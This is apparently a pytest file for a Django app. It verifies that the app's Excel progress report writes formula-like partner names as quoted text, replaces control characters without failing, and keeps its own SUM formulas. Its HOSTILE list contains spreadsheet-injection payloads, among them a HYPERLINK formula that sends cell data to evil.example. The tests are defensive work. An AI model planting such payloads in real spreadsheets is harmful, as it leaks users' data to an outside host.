"""The Excel report cannot be abused (issue 10): user text that looks like a formula is written
as text, a control character is replaced and never stops the report, and the workbook's own
formulas (the ``begroting`` sheet) stay formulas."""

import re
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from locations.access import system_scope
from locations.periods import Period
from registrations.models import OutgoingReferral, PartnerAgreement
from reports.excel import progress_report_xlsx
from reports.models import ReportFile
from reports.selectors import progress_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _report(world):
    with system_scope():
        return progress_report(user=None, agreement=world.agreement, period=Period(2019, 2))


def _sheet_xml(content: bytes) -> str:
    with ZipFile(BytesIO(content)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_formula_like_partner_names_are_text(world):
    noord = world.tenants.a.location
    with system_scope():
        for position, name in enumerate(HOSTILE):
            PartnerAgreement.unscoped.create(
                location=noord, partner_name=name, agreed_on=date(2018, 6, position + 1)
            )
    content = progress_report_xlsx(_report(world))
    assert "HYPERLINK" not in "".join(re.findall(r"<f>.*?</f>", _sheet_xml(content)))
    sheet = load_workbook(BytesIO(content))["municipality_items"]
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    for name in HOSTILE:
        # As typed: openpyxl writes a CR as &#13; with lxml (installed with pikepdf), so it
        # reads back as a CR.
        cell = cells[name]
        assert cell.data_type == "s"
        assert cell.quotePrefix is True


def test_a_control_character_is_replaced_not_a_crash(world):
    noord = world.tenants.a.location
    with system_scope():
        OutgoingReferral.unscoped.create(
            location=noord, date=date(2019, 2, 10), organisation_name="Ma\x1bDi\x08"
        )
    sheet = load_workbook(BytesIO(progress_report_xlsx(_report(world))))["municipality_items"]
    labels = {row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert "Ma\ufffdDi\ufffd" in labels


def test_a_control_character_in_a_location_name_is_replaced(world):
    with system_scope():
        location = world.tenants.a.location
        location.name = "Noord\x07"
        location.save()
    workbook = load_workbook(BytesIO(progress_report_xlsx(_report(world))))
    assert "Noord\ufffd" in workbook.sheetnames


def test_the_excel_download_of_a_report_with_an_esc_is_built(
    client, world, django_capture_on_commit_callbacks
):
    """One ESC in a referral organisation: the request answers, the file is done (not pending
    for ever) and downloads."""
    noord = world.tenants.a.location
    with system_scope():
        OutgoingReferral.unscoped.create(
            location=noord, date=date(2019, 2, 10), organisation_name="Buurt\x1bteam"
        )
    # client.login() authenticates without a request, which django-axes refuses; the password
    # still checks out, and force_login verifies the second step (root conftest).
    assert world.tenants.a.board.check_password("test-password-123")
    client.force_login(world.tenants.a.board)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("reports:request_file"),
            {"agreement": world.agreement.pk, "period": "2019-Q2", "format": "xlsx"},
        )
    assert response.status_code == 302
    with system_scope():
        report_file = ReportFile.objects.get()
    assert report_file.status == ReportFile.Status.DONE
    download = client.get(reverse("reports:file", args=[report_file.pk]))
    workbook = load_workbook(BytesIO(b"".join(download.streaming_content)))
    labels = {row[2] for row in workbook["municipality_items"].iter_rows(values_only=True)}
    assert "Buurt\ufffdteam" in labels


def test_the_workbooks_own_formulas_stay_formulas(full_report):
    sheet = load_workbook(BytesIO(progress_report_xlsx(full_report)))["begroting"]
    formulas = [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert any(str(cell.value).startswith("=SUM(") for cell in formulas)
    assert all(cell.quotePrefix is False for cell in formulas)
